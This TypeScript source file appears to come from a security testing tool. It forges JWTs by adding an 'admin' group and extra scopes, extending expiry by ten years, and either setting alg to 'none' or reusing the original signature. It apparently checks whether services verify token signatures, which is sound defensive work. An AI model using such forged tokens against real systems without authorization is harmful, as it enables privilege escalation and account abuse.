import { listIn } from './claim-value';
import { base64Url, type Claims, type DecodedToken } from '../../shared/decoded-token';

const tenYears = 10 * 365 * 86_400;

/**
 * What somebody would write who wants to be an editor: their own token with `admin` in its groups, the door's scopes
 * and ten more years. `as-it-was` keeps header and signature, `none` claims that there is no signature to check
 * (RFC 8725 section 2.1).
 */
export function forgedToken(
  { header, claims, parts }: DecodedToken,
  { scopes, algorithm }: { scopes: readonly string[]; algorithm: 'as-it-was' | 'none' },
): { text: string; claims: Claims } {
  const forgedClaims = {
    ...claims,
    'cognito:groups': [...new Set([...listIn(claims['cognito:groups']), 'admin'])],
    ...(scopes.length > 0 && {
      scope: [...new Set([...listIn(claims['scope']), ...scopes])].join(' '),
    }),
    ...(typeof claims['exp'] === 'number' && { exp: claims['exp'] + tenYears }),
  };
  const text =
    algorithm === 'none'
      ? `${encoded({ ...header, alg: 'none' })}.${encoded(forgedClaims)}.`
      : `${parts[0]}.${encoded(forgedClaims)}.${parts[2]}`;
  return { text, claims: forgedClaims };
}

const encoded = (claims: Claims): string =>
  base64Url(new TextEncoder().encode(JSON.stringify(claims)));
